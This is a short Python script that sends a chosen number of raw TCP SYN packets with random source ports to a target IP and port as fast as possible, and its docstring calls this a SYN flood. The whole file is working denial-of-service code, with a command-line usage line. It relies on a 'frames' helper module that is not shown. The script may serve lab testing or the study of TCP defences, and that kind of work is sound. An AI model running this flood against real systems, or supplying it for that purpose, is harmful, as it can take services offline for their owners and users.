# SPDX-License-Identifier: MIT
"""Send COUNT bare SYNs to IP:PORT from this host's address SRC, from
random source ports, through a raw socket, as fast as they go (a SYN
flood). Their SYN-ACKs, if any come, meet this kernel's resets.
Usage: syn_flood.py SRC IP PORT COUNT"""
import random, socket, sys

from frames import SYN, tcp

src, dst, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
sip, dip = socket.inet_aton(src), socket.inet_aton(dst)
for _ in range(count):
    seg = tcp(random.randint(1024, 65535), port, random.getrandbits(32), 0, SYN,
              sip, dip, win=64240)
    s.sendto(seg, (dst, 0))
print(f"syn flood: {count} SYNs sent to {dst}:{port}")
